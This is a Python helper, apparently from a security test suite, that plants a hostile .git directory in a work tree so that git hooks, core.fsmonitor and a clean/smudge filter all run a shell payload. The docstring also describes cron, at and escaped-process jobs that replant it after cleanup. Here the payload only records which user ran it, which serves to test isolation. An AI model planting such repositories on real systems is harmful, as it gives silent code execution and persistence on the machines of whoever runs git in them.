"""Plants a ``.git`` that runs code (hooks, fsmonitor, a clean filter for every path) in a work tree;
run by tests/agents/hostile_tree.py in its phase and, as ``python3 hostile_tree_replant.py <tree>``,
from the jobs it tries to leave behind (an escaped process, ``at``, ``crontab``), which would plant
it again after the action took the tree back. Writes ``<loot>/replant-<uid>-<pid>.json`` with what
it managed. Standard library only."""

import json
import os
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
LOOT = Path(json.loads((HERE / "hunt.json").read_text())["loot"])
PAYLOAD = f'#!/bin/sh\nid -u >> "{LOOT}/ran-as-$(id -u)"\ncat\n'


def plant(top: Path) -> bool:
    """A ``.git`` at ``top`` (replacing what is there) whose hooks, fsmonitor and filter run PAYLOAD."""
    dotgit = top / ".git"
    try:
        if dotgit.is_file() or dotgit.is_symlink():
            dotgit.unlink()
        subprocess.run(["git", "init", "-q", str(top)], capture_output=True, check=True)
        payload = dotgit / "payload.sh"
        payload.write_text(PAYLOAD)
        payload.chmod(0o755)
        for hook in ("post-commit", "prepare-commit-msg", "reference-transaction", "post-checkout", "pre-commit"):
            (dotgit / "hooks" / hook).write_text(PAYLOAD)
            (dotgit / "hooks" / hook).chmod(0o755)
        with (dotgit / "config").open("a") as fh:
            fh.write(f'[core]\n\tfsmonitor = {payload}\n[filter "x"]\n\tclean = {payload}\n\tsmudge = {payload}\n')
        (dotgit / "info").mkdir(exist_ok=True)
        (dotgit / "info" / "attributes").write_text("* filter=x\n")
        return True
    except (OSError, subprocess.CalledProcessError):
        return False


if __name__ == "__main__":
    done = plant(Path(sys.argv[1]))
    (LOOT / f"replant-{os.getuid()}-{os.getpid()}.json").write_text(json.dumps({"uid": os.getuid(), "planted": done}))
